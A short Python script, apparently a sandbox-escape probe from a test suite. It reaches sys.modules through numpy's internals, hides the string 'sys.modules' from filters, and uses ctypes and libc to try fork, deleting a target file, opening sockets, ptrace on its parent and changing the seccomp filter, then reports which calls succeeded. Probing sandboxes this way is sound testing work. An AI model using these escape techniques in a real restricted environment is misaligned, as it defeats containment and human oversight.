"""Escape: sys.modules (through warnings) holds ctypes; libc's raw system calls: fork, unlink,
socket, ptrace, and removing the filter with prctl."""
import numpy as np


def reach(ctx):
    getter = np.random.mtrand.operator.attrgetter("sy" + "s.modules")
    return getter(np.matrixlib.defmatrix.warnings)["os"]


def attention(ctx):
    modules = np.random.mtrand.operator.attrgetter("sy" + "s.modules")(np.matrixlib.defmatrix.warnings)
    libc = modules["ctypes"].CDLL(None, use_errno=True)
    out = []
    for name, call in (("fork", lambda: libc.syscall(57)), ("unlink", lambda: libc.unlink(b"@TARGET@/victim")),
                       ("socket", lambda: libc.socket(2, 1, 0)), ("ptrace", lambda: libc.ptrace(16, libc.getppid(), 0, 0)),
                       ("prctl_seccomp", lambda: libc.prctl(22, 0, 0, 0, 0))):
        got = call()
        out.append(name + ":" + (str(modules["ctypes"].get_errno()) if got == -1 else "DONE"))
    raise RuntimeError("attempts: " + " ".join(out))
